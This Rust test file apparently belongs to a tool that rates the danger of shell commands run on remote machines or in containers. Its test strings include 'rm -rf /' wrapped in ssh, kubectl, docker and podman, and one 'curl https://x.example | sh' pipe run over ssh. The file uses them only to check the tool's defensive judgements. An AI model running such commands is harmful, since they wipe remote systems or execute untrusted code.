//! A command that is run on another machine or in a container: the danger that it names is shown, and only raises.

use countersign::effect::Tier;
use countersign::report;

use crate::{Machine, does, judged};

/// Ways to run a command somewhere else, and how that place is told.
const WRAPPED: &[(&str, &str)] = &[
    ("ssh web1 ", "web1"),
    ("ssh -p 22 deploy@web1 ", "deploy@web1"),
    ("kubectl exec web-0 -- ", "web-0"),
    ("kubectl exec -it web-0 -c app -- ", "web-0"),
    ("docker exec web ", "web"),
    ("docker run --rm alpine ", "alpine"),
    ("docker compose exec -T web ", "web"),
    ("podman exec web ", "web"),
];

#[test]
fn what_it_destroys_there_is_told_with_the_place() {
    let machine = Machine::new();
    for (wrapper, place) in WRAPPED {
        for inner in ["rm -rf /", "sh -c 'rm -rf /'"] {
            let inner = match wrapper.starts_with("ssh") && inner.starts_with("sh") {
                true => format!("\"{inner}\""),
                false => inner.to_owned(),
            };
            let command = format!("{wrapper}{inner}");
            assert_eq!(judged(&machine, &command).tier, Tier::Critical, "{command}");
            does(
                &machine,
                &command,
                &format!("delete /, on {place}, not on this machine"),
            );
        }
    }
}

#[test]
fn to_ssh_all_words_are_one_line_for_the_shell_there() {
    let machine = Machine::new();
    for command in [
        "ssh web1 'cd /srv && rm -rf /'",
        "ssh web1 cd /srv '&&' rm -rf /",
        "ssh web1 \"bash -c 'rm -rf /'\"",
        "ssh web1 'sudo rm -rf /'",
        "timeout 5 ssh web1 'rm -rf /'",
    ] {
        does(&machine, command, "delete /, on web1, not on this machine");
    }
    let piped = judged(&machine, "ssh web1 'curl https://x.example | sh'");
    assert!(
        report::summary(&piped).contains("on web1"),
        "{}",
        report::summary(&piped)
    );
}

#[test]
fn the_command_never_makes_it_safer_than_without_one() {
    let machine = Machine::new();
    for (wrapper, _) in WRAPPED {
        let bare = judged(&machine, wrapper.trim_end().trim_end_matches("--")).tier;
        for inner in ["ls", "cat README.md", "true", "git status", "$X", "rm -rf x"] {
            let found = judged(&machine, &format!("{wrapper}{inner}"));
            assert!(found.tier >= bare, "{wrapper}{inner}: {} below {bare}", found.tier);
            assert!(found.tier >= Tier::High);
        }
    }
}
